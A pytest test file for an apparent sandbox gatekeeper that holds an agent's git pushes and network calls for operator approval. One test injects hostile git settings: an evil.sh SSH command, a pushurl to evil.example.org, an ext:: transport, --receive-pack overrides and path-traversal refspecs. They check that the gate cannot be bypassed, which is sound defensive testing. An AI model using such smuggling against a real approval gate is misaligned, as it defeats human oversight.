"""Git as any program in a sandbox runs it: what it says, what is asked, and what isn't."""

import shlex
import subprocess
from typing import Any

import pytest

from tests.doors.conftest import House, Started

pytestmark = [pytest.mark.timeout(300)]

COMMIT = "git checkout -qb feature/x; echo more >> README.md; git commit -qam 'one more line'; "


def begun(house: House, script: str, *words: str) -> Started:
    place = ("--workspace", str(house.workspace))
    return house.start("run", *place, *words, "--", "bash", "-c", script)


def pushes(house: House) -> list[dict[str, Any]]:
    return [one for one in house.requests() if one["category"] == "git"]


def push_of(house: House) -> dict[str, Any]:
    """The one push that waits."""
    (push,) = house.until_told(lambda: pushes(house), "the push")
    return dict(push)


def at_origin(house: House, ref: str) -> str:
    """The subject of a ref's commit at the remote; empty where there is none."""
    done = subprocess.run(
        ["git", "log", "-1", "--format=%s", ref, "--"],
        cwd=house.folder / "origin.git",
        capture_output=True,
        text=True,
        check=False,
    )
    return done.stdout.strip()


@pytest.mark.parametrize("copy", ["copy", "overlay"])
def test_a_push_of_a_shell_is_a_card_and_git_says_what_became_of_it(
    house: House, copy: str
) -> None:
    house.up()
    started = begun(house, f"{COMMIT} git push -u origin HEAD; echo DONE $?", "--copy", copy)
    push = push_of(house)
    assert push["title"] == "git push origin feature/x"
    assert push["origin"] == "agent_tool"
    started.until_printed("waiting for an answer: git push origin feature/x")
    house.ok("approve", push["id"])
    started.until_printed("DONE 0")
    assert "* [new branch]      HEAD -> feature/x" in started.printed
    assert "branch 'feature/x' set up to track 'origin/feature/x'" in started.printed
    assert at_origin(house, "feature/x") == "one more line"


def test_a_denial_is_git_s_own_rejection_with_the_reason(house: House) -> None:
    """As GitPython and simple-git call it: from Python, for a machine to read."""
    python = (
        "import subprocess, sys; done = subprocess.run(['git', 'push', '--porcelain', '-v', '--',"
        " 'origin', 'feature/x'], capture_output=True, text=True); print(done.stdout);"
        " print(done.stderr); print('DONE', done.returncode)"
    )
    house.up()
    started = begun(house, f"{COMMIT} python3 -c {shlex.quote(python)}")
    house.ok("deny", push_of(house)["id"], "--reason", "use a branch")
    started.until_printed("DONE 1")
    line = "!\trefs/heads/feature/x:refs/heads/feature/x\t[remote rejected] (denied by operator"
    assert line in started.printed
    assert ": use a branch)" in started.printed
    assert at_origin(house, "feature/x") == ""


def test_reading_a_remote_needs_no_more_than_the_rules_that_are_there(house: House) -> None:
    """Whoever runs git, and whatever it does to PATH and environment."""
    house.git("checkout", "-qb", "side")
    house.git("commit", "-q", "--allow-empty", "-m", "on the side")
    house.git("tag", "-am", "first", "v1")
    house.git("push", "-q", "origin", "side", "v1")
    house.git("tag", "-d", "v1")
    house.git("checkout", "-q", "main")
    house.git("branch", "-qD", "side")
    house.git("update-ref", "-d", "refs/remotes/origin/side")
    script = """
    git ls-remote origin | sed 's/^/LISTED /'
    env -i PATH=/usr/bin:/bin git fetch 2>&1 | sed 's/^/FETCHED /'
    git log -1 --format='SIDE %s' origin/side
    git cat-file -t v1
    git branch -q --set-upstream-to=origin/side
    git pull -q; git log -1 --format='PULLED %s'
    git remote show origin | grep 'HEAD branch'
    git fetch origin nothing-there; echo EXIT $?
    """
    done = house.run("run", "--workspace", str(house.workspace), "--", "bash", "-c", script)
    printed = done.stdout + done.stderr
    assert "\trefs/heads/side" in printed, printed
    assert "\trefs/tags/v1^{}" in printed
    assert "FETCHED  * [new branch]      side       -> origin/side" in printed
    assert "FETCHED  * [new tag]         v1         -> v1" in printed
    assert "SIDE on the side\ntag\n" in printed
    assert "PULLED on the side" in printed
    assert "HEAD branch: main" in printed
    assert "the remote has no branch or tag `nothing-there`" in printed
    assert "EXIT 128" in printed


def test_a_known_remote_is_cloned_and_pushed_to_from_the_clone(house: House) -> None:
    url = f"file://{house.folder}/origin.git"
    house.git("remote", "set-url", "origin", url)
    house.up()
    script = f"""
    git clone -q {url.removesuffix(".git")} /tmp/clone && cd /tmp/clone && {COMMIT}
    git push origin feature/x; echo DONE $?
    """
    started = begun(house, script)
    push = push_of(house)
    house.ok("approve", push["id"])
    started.until_printed("DONE 0")
    assert "feature/x -> feature/x" in started.printed
    assert at_origin(house, "feature/x") == "one more line"


def test_remotes_of_the_sandbox_and_others_stay_plain_git(house: House) -> None:
    house.up()
    script = f"""
    git init -q --bare /tmp/own.git; git init -q --bare {house.folder}/origin.git-other
    git remote add own /tmp/own.git; {COMMIT} git push -q own feature/x; echo OWN $?
    git -C /tmp/own.git log -1 --format='HAS %s' feature/x
    git clone -q /tmp/own.git /tmp/again && git -C /tmp/again remote -v
    git push -q file://{house.folder}/origin.git-other feature/x; echo OTHER $?
    git ls-remote https://hooks.example.org/hooks.git; echo DONE $?
    """
    started = begun(house, script)
    host = house.until_told(
        lambda: [one for one in house.requests() if one["category"] == "network"], "the connection"
    )
    assert "hooks.example.org" in host[0]["title"]
    house.ok("deny", host[0]["id"])
    started.until_printed("DONE 128")
    for said in ("OWN 0", "HAS one more line", "origin\t/tmp/own.git (fetch)", "OTHER 0"):
        assert said in started.printed
    assert pushes(house) == []


def test_several_refs_are_one_card_and_what_isn_t_pushed_isn_t_asked(house: House) -> None:
    house.up()
    script = f"""
    git push origin main; git push --dry-run origin main:other; git push --tags
    {COMMIT} git tag v1; git branch second
    git push --atomic origin feature/x second:refs/heads/2nd v1; echo FIRST $?
    git push origin feature/x; git push origin v1; echo AGAIN $?
    git commit -q --amend -m reworded
    git push origin feature/x; echo AHEAD $?
    git push --force-with-lease=feature/x:$(git rev-parse main) origin feature/x; echo STALE $?
    git push -o ci.skip origin feature/x:third; echo OPTION $?
    git push --force-with-lease origin feature/x :2nd; echo DONE $?
    """
    started = begun(house, script)
    push = push_of(house)
    card = house.http("GET", f"/api/requests/{push['id']}/push")[1]
    refs = {"refs/heads/feature/x", "refs/heads/2nd", "refs/tags/v1"}
    assert {one["ref"] for one in card["moves"]} == refs
    house.ok("approve", push["id"])
    started.until_printed("FIRST 0")
    for said in ("feature/x -> feature/x", "second -> 2nd", "[new tag]         v1 -> v1"):
        assert said in started.printed
    started.until_printed("OPTION 128")
    for said in ("AGAIN 0", "AHEAD 1", "STALE 1"):
        assert said in started.printed
    assert "(non-fast-forward)" in started.printed
    assert "(stale info)" in started.printed
    push = push_of(house)
    assert "--force-with-lease" in push["title"]
    house.ok("approve", push["id"])
    started.until_printed("DONE 0")
    assert "feature/x -> feature/x (forced update)" in started.printed
    assert "- [deleted]         2nd" in started.printed
    assert at_origin(house, "feature/x") == "reworded"
    assert at_origin(house, "2nd") == ""


def test_make_pushes_from_a_granted_command(house: House) -> None:
    (house.workspace / "Makefile").write_text("publish:\n\tgit push origin feature/x\n")
    house.git("add", "-A")
    house.git("commit", "-qm", "a Makefile")
    house.up()
    body = shlex.quote('{"command": "make publish", "timeout_s": 100}')
    token = '-H "Authorization: Bearer $GATEHOUSE_TOKEN" -H "Content-Type: application/json"'
    asks = f'curl -s "$GATEHOUSE_URL/v1/exec" {token} -d {body}; sleep 100'
    begun(house, f"{COMMIT} {asks}")
    push = push_of(house)
    assert push["origin"] == "agent_tool"
    house.ok("approve", push["id"])
    assert at_origin(house, "feature/x") == "one more line"


HOSTILE = """
cat > /tmp/evil.sh <<'END'
#!/bin/sh
echo ran >> /tmp/ran; exit 1
END
chmod +x /tmp/evil.sh
export GIT_SSH_COMMAND=/tmp/evil.sh GIT_CONFIG_COUNT=2
export GIT_CONFIG_KEY_0=remote.origin.pushurl GIT_CONFIG_VALUE_0=https://evil.example.org/x
export GIT_CONFIG_KEY_1=core.sshCommand GIT_CONFIG_VALUE_1=/tmp/evil.sh
git -c protocol.ext.allow=always push ext::/tmp/evil.sh feature/x; echo EXT $?
unset GIT_CONFIG_COUNT
"""


def test_what_an_agent_says_to_git_changes_nothing_of_what_is_judged(house: House) -> None:
    """Nonsense to the helper, other remotes at the door, its own configuration."""
    house.up()
    door = """/opt/gatehouse/python -I -S - <<'END'
import sys
sys.path.append("/opt/gatehouse")
from agent_image.programs.door import ask
for body in (
    {"command": "git push https://evil.example.org/x feature/x"},
    {"command": "git push --receive-pack=/tmp/evil.sh origin feature/x"},
    {"command": "git -c core.sshCommand=/tmp/evil.sh push origin feature/x"},
    {"operation": "push", "remote": "ext::/tmp/evil.sh", "refspecs": ["feature/x"]},
    {"operation": "gc", "remote": "origin"},
    {"command": "git fetch origin", "cwd": "../.."},
    {"approved": True},
    "text",
):
    print("DOOR", list(ask("/v1/git", body)))
END
"""
    nonsense = r"""
helper=/opt/gatehouse/bin/git-remote-gatehouse
url=$(git config remote.origin.url)
for said in 'push :' 'push +x:refs/heads/y' 'fetch nothing' 'fetch -x refs/heads/main' 'list x' \
    'option' 'push refs/heads/../../x:refs/heads/x' ; do
  printf '%s\n\n' "$said" | GIT_DIR=.git timeout 20 $helper origin "$url" 2>&1 | sed 's/^/HELPER /'
done
printf 'push \377\376:\000\n\n' | GIT_DIR=.git timeout 20 $helper origin "$url" 2>&1 | head -c 300
"""
    started = begun(house, f"{COMMIT} {HOSTILE} {door} {nonsense} echo; echo DONE; cat /tmp/ran")
    started.until_printed("\nDONE")
    printed = started.printed
    assert "EXT 128" in printed  # git's own business: it runs in the sandbox, and reaches nobody
    assert printed.count("DOOR [{'exit': 1,") == 8, printed
    assert "Traceback" not in printed, printed
    assert pushes(house) == []
    assert at_origin(house, "feature/x") == ""


def test_a_submodule_is_updated_and_pushed_to_from_its_own_remote(house: House) -> None:
    def git(*words: str, at: str) -> str:
        allowed = ("-c", "protocol.file.allow=always")
        return subprocess.run(
            ["git", *allowed, *words],
            cwd=house.folder / at,
            check=True,
            capture_output=True,
            text=True,
        ).stdout.strip()

    for words in (
        ("init", "-q", "--bare", "-b", "main", "lib.git"),
        ("clone", "-q", "lib.git", "lib"),
        ("-C", "lib", "commit", "-q", "--allow-empty", "-m", "lib begun"),
        ("-C", "lib", "push", "-q", "origin", "HEAD:main"),
        ("-C", "workspace", "submodule", "add", "-q", str(house.folder / "lib.git"), "lib"),
        ("-C", "workspace", "commit", "-qam", "with a submodule"),
        ("-C", "workspace", "push", "-q", "origin", "main"),
        ("-C", "lib", "commit", "-q", "--allow-empty", "-m", "lib goes on"),
        ("-C", "lib", "push", "-q", "origin", "HEAD:main"),
        ("clone", "-q", "origin.git", "other"),
        ("-C", "other", "submodule", "update", "-q", "--init", "--remote"),
        ("-C", "other", "commit", "-qam", "a newer submodule"),
        ("-C", "other", "push", "-q", "origin", "HEAD:main"),
    ):
        git(*words, at=".")
    house.up()
    script = """
    git pull -q origin main && git submodule update; git -C lib log -1 --format='LIB %s'
    cd lib && git checkout -qb feature/lib && git commit -q --allow-empty -m 'lib by agent'
    git push origin feature/lib; echo DONE $?
    """
    started = begun(house, script)
    push = push_of(house)
    assert "LIB lib goes on" in started.printed
    house.ok("approve", push["id"])
    started.until_printed("DONE 0")
    assert git("log", "-1", "--format=%s", "feature/lib", at="lib.git") == "lib by agent"


def test_another_address_or_no_system_configuration_ends_in_words_that_help(house: House) -> None:
    """A longer `insteadOf` of the copy's, an environment without the system's configuration."""
    house.up()
    script = f"""
    git config url.https://elsewhere.example.org/y.insteadOf {house.folder}/origin.git
    git push origin main:feature/x; echo FIRST $?
    git config --unset url.https://elsewhere.example.org/y.insteadOf
    GIT_CONFIG_NOSYSTEM=1 git push origin main:feature/y; echo SECOND $?
    git ls-remote https://git.example.org/shop.git/; echo DONE $?
    """
    house.git("remote", "add", "web", "https://me:pass@git.example.org/shop.git")
    started = begun(house, script)
    house.ok("deny", push_of(house)["id"])
    started.until_printed("gatehouse: waiting for an answer: git ls-remote web")
    (reads,) = house.until_told(lambda: pushes(house), "the ls-remote")
    house.ok("deny", reads["id"])
    started.until_printed("DONE 128")
    assert "FIRST 1" in started.printed
    assert "SECOND 128" in started.printed
    assert "pass@" not in started.printed


def test_a_push_that_is_asked_again_goes_on_for_the_program_that_waits(house: House) -> None:
    house.up()
    started = begun(house, f"{COMMIT} git push origin feature/x; echo DONE $?")
    first = push_of(house)
    house.git("push", "-q", "origin", "main:feature/x")
    house.run("approve", first["id"])
    (again,) = house.until_told(
        lambda: [one for one in pushes(house) if one["id"] != first["id"]], "the second request"
    )
    started.until_printed(f"(gatehouse approve {again['id'][:8]})")
    house.ok("approve", again["id"])
    started.until_printed("DONE 0")
    assert at_origin(house, "feature/x") == "one more line"


def test_a_resumed_session_has_the_remotes_that_there_are_now(house: House) -> None:
    house.up()
    first = house.ended("true")
    house.git("remote", "add", "second", f"file://{house.folder}/second.git")
    script = f"git ls-remote file://{house.folder}/second; echo DONE $?"
    again = house.start("resume", first, "--", "bash", "-c", script)
    reads = push_of(house)
    assert reads["title"] == "git ls-remote second"
    house.ok("deny", reads["id"])
    again.until_printed("DONE 128")
